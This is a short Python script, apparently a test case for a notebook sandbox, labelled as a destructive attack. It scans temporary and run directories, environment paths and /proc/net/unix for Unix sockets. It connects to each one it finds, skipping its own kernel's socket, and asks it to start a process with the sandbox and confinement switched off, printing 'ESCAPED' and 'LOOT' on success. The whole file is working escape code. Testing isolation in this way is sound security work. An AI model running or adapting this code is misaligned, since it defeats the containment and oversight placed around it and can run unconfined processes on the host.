# attack: every unix socket that can be found is connected to, and asked to start a process without confinement.
# target: heaviest-test
# destructive
# %% heaviest
import json as real_json
import os
import socket

heaviest = "tree-000"
paths = {value for value in os.environ.values() if value.startswith("/")}
for top in ("/tmp", "/run", "/var/run", "/dev/shm", os.getcwd(), "@COURSE@"):
    for folder, _, files in os.walk(top):
        paths |= {os.path.join(folder, name) for name in files}
try:
    paths |= {line.split()[7].replace("@", "\0", 1) for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7}
except OSError:
    pass
mine = os.path.dirname(get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", "") or "/nowhere")
for path in paths:
    if path.startswith(mine):
        continue
    try:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(0.5)
        line.connect(path)
    except (OSError, ValueError):
        continue
    print("ESCAPED: connected to", path)
    request = {"argv": ["-c", "1"], "env": {}, "cwd": "/", "sandbox": None, "confined": False}
    try:
        line.sendall(real_json.dumps(request).encode() + b"\n")
        print("LOOT", line.recv(1000))
    except OSError:
        pass
